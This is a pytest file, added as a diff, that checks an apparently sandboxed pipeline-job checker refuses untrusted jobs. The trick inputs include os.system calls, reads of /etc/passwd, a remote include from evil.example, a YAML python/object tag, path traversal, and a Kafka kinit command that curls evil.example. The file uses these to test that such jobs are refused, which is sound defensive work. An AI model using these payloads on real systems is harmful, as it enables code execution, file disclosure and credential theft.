@@ -1,0 +1,216 @@
+"""What a job of a stranger tries, trick by trick: it is refused before anything runs, with a sentence and its place."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tocsin.compiler.checker import check_text
+from tocsin.compiler.diagnostics import JobError
+from tocsin.foundation.sandbox import FOLDERS_VARIABLE, HOSTS_VARIABLE
+
+ROOT = Path(__file__).parents[2]
+READ = "{type: ReadFiles, config: {files: readings.parquet, event_time: at}}"
+KAFKA = "topic: t, schema: air.avsc, event_time: observed_at"
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A stranger's folder, in which `check` runs; outside it stands a file that is none of his business."""
+    folder = tmp_path / "stranger"
+    folder.mkdir()
+    shutil.copy(ROOT / "tests/errors/readings.parquet", folder)
+    shutil.copy(ROOT / "tests/errors/readings.parquet", tmp_path / "private.parquet")
+    shutil.copy(ROOT / "schemas/air_reading.avsc", folder / "air.avsc")
+    shutil.copy(ROOT / "schemas/air_reading.avsc", tmp_path / "private.avsc")
+    (folder / "link.parquet").symlink_to(tmp_path / "private.parquet")
+    monkeypatch.chdir(folder)
+    for name in (HOSTS_VARIABLE, FOLDERS_VARIABLE, "TOCSIN_BROKERS"):
+        monkeypatch.delenv(name, raising=False)
+    return folder
+
+
+def refusal(home: Path, *steps: str, top: str = "", trusted: bool = False) -> str:
+    """The sentences of the refusal."""
+    listed = "\n".join(f"    - {step}" for step in steps)
+    text = f"pipeline:\n  type: chain\n  transforms:\n{listed}\n{top}"
+    with pytest.raises(JobError) as wrong:
+        check_text(str(home / "job.yaml"), text, trusted=trusted)
+    return "\n".join(str(problem) for problem in wrong.value.problems)
+
+
+CODE = {
+    "a provider package": (
+        "",
+        "providers: [{type: pythonPackage, config: {packages: [evil]}, transforms: {X: evil.X}}]",
+    ),
+    "a provider of inline YAML": (
+        "",
+        "providers: [{type: yaml, transforms: {X: {body: {type: PyTransform}}}}]",
+    ),
+    "an include": ("", "providers: [{include: 'http://evil.example/p.yaml'}]"),
+    "PyTransform": ("{type: PyTransform, config: {constructor: os.system, args: [id]}}", ""),
+    "inline Python": (
+        "{type: MapToFields, config: {language: python, fields: {x: 'open(\"/etc/passwd\").read()'}}}",
+        "",
+    ),
+    "inline JavaScript": (
+        "{type: MapToFields, config: {language: javascript, fields: {x: 'process.env'}}}",
+        "",
+    ),
+    "a callable": ("{type: MapToFields, config: {fields: {x: {callable: 'lambda row: 1'}}}}", ""),
+    "a file of Python": (
+        "{type: MapToFields, config: {fields: {x: {path: evil.py, name: f}}}}",
+        "",
+    ),
+    "an SQL engine": ("{type: Sql, config: {query: SELECT 1}}", ""),
+    "a Java transform": ("{type: JavaTransform, config: {}}", ""),
+    "a reader of Beam's own": ("{type: ReadFromText, config: {path: /etc/passwd}}", ""),
+    "a writer of Beam's own": ("{type: WriteToJson, config: {path: /tmp/out}}", ""),
+    "a module by its path": ("{type: ../../evil, config: {}}", ""),
+    "a module by its dotted name": ("{type: os.system, config: {}}", ""),
+}
+
+
+@pytest.mark.parametrize("trick", CODE)
+def test_no_code(trick: str, home: Path) -> None:
+    step, top = CODE[trick]
+    steps = [READ, "{type: ToRows}", step] if step else [READ]
+    said = refusal(home, *steps, top=top)
+    assert "brings code into a job" in said or "no step type" in said
+
+
+def test_options_of_beam_are_not_the_jobs(home: Path) -> None:
+    for option in (
+        "setup_file: evil.py",
+        "extra_packages: [evil]",
+        "environment_config: 'evil:1'",
+        "job_endpoint: evil:1",
+    ):
+        assert "option" in refusal(home, READ, top=f"options: {{{option}}}")
+
+
+def test_jinja_is_text(home: Path) -> None:
+    said = refusal(
+        home, "{type: ReadFiles, config: {files: '{{ 7 * 7 }}.parquet', event_time: at}}"
+    )
+    assert "{{ 7 * 7 }}.parquet" in said
+
+
+def test_a_tag_of_yaml_makes_no_object(home: Path) -> None:
+    said = refusal(home, "{type: !!python/object/apply:os.system [id]}")
+    assert "job.yaml:" in said
+
+
+FILES = {
+    "an absolute path": "{type: ReadFiles, config: {files: PRIVATE.parquet, event_time: at}}",
+    "a path upwards": "{type: ReadFiles, config: {files: ../private.parquet, event_time: at}}",
+    "a link": "{type: ReadFiles, config: {files: link.parquet, event_time: at}}",
+    "a schema": "{type: ReadTelemetry, config: {topic: t, schema: ../private.avsc, event_time: observed_at}}",
+}
+
+
+@pytest.mark.parametrize("trick", FILES)
+def test_no_file_outside_its_folders(
+    trick: str, home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    step = FILES[trick].replace("PRIVATE", str(home.parent / "private"))
+    assert "not in the job's folders" in refusal(home, step)
+    monkeypatch.setenv(FOLDERS_VARIABLE, str(home.parent))
+    text = f"pipeline:\n  type: chain\n  transforms:\n    - {step}\n"
+    assert check_text(str(home / "job.yaml"), text)[0].steps
+
+
+def test_a_job_in_the_root_of_a_disk_has_no_folder(
+    home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir("/")
+    text = f"pipeline:\n  transforms:\n    - {{type: ReadFiles, config: {{files: {home}/readings.parquet, event_time: at}}}}\n"
+    with pytest.raises(JobError, match="not in the job's folders"):
+        check_text("/job.yaml", text)
+
+
+HOSTS = {
+    "a broker": f"{{type: ReadTelemetry, config: {{{KAFKA}, kafka: {{brokers: 'evil.example:9092'}}}}}}",
+    "a second broker": f"{{type: ReadTelemetry, config: {{{KAFKA}, kafka: {{brokers: 'localhost:9092,evil.example:9092'}}}}}}",
+    "a registry": "{type: ReadTelemetry, config: {topic: t, registry: {url: 'http://evil.example'}, event_time: at}}",
+    "a registry behind a user name": (
+        "{type: ReadTelemetry, config: {topic: t, registry: {url: 'http://localhost@evil.example'}, event_time: at}}"
+    ),
+}
+
+
+@pytest.mark.parametrize("trick", HOSTS)
+def test_no_host_that_the_operator_did_not_allow(trick: str, home: Path) -> None:
+    said = refusal(home, HOSTS[trick])
+    assert "the host 'evil.example' is not allowed here" in said
+
+
+def test_the_operator_allows_hosts_by_pattern(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(HOSTS_VARIABLE, "*.city.example")
+    step = f"{{type: ReadTelemetry, config: {{{KAFKA}, kafka: {{brokers: 'kafka.city.example:9092'}}}}}}"
+    assert check_text(str(home / "job.yaml"), f"pipeline:\n  transforms:\n    - {step}\n")[0].steps
+
+
+SETTINGS = {
+    "a library": ("plugin.library.paths: /tmp/evil.so", "may not set 'plugin.library.paths'"),
+    "a command": (
+        "sasl.kerberos.kinit.cmd: 'curl evil.example'",
+        "may not set 'sasl.kerberos.kinit.cmd'",
+    ),
+    "other brokers": ("bootstrap.servers: 'evil.example:9092'", "may not set 'bootstrap.servers'"),
+    "a token's address": (
+        "sasl.oauthbearer.token.endpoint.url: 'http://evil.example'",
+        "may not set",
+    ),
+    "no check of certificates": ("enable.ssl.certificate.verification: false", "may not set"),
+    "a password in the open": ("sasl.password: hunter2", "is a secret and must not stand in a job"),
+    "a file where no secret is": ("client.id: 'file:/etc/passwd'", "is no secret"),
+    "a variable where no secret is": ("client.id: 'env:HOME'", "is no secret"),
+}
+
+
+@pytest.mark.parametrize("trick", SETTINGS)
+def test_settings_of_kafka_by_allow_list(trick: str, home: Path) -> None:
+    setting, sentence = SETTINGS[trick]
+    said = refusal(
+        home,
+        f"{{type: ReadTelemetry, config: {{{KAFKA}, kafka: {{brokers: 'localhost:1', settings: {{{setting}}}}}}}}}",
+    )
+    assert sentence in said
+    assert "hunter2" not in said
+
+
+def test_a_secret_of_the_environment_cannot_be_put_into_a_job(
+    home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("KAFKA_PASSWORD", "hunter2")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
+    for name in ("KAFKA_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
+        said = refusal(
+            home,
+            f"{{type: ReadTelemetry, config: {{topic: 'x-${{{name}}}', schema: air.avsc, event_time: observed_at}}}}",
+        )
+        assert "looks like a secret" in said
+        assert "hunter2" not in said
+
+
+def test_a_lake_stays_in_the_folders_of_the_operator(
+    home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(FOLDERS_VARIABLE, str(home / "lakes"))
+    for lake in (f"{home.parent}/elsewhere", "../elsewhere", f"file://{home.parent}/elsewhere"):
+        said = refusal(home, READ, f"{{type: WriteToLake, config: {{lake: '{lake}', dataset: a}}}}")
+        assert "none of the folders that the operator allowed" in said
+
+
+def test_a_dataset_is_a_name(home: Path) -> None:
+    for dataset in ("../up", "/etc", "a/b", "..", "a\\0b"):
+        assert (
+            "dataset"
+            in refusal(
+                home, READ, f'{{type: WriteToLake, config: {{lake: lake, dataset: "{dataset}"}}}}'
+            ).lower()
+        )
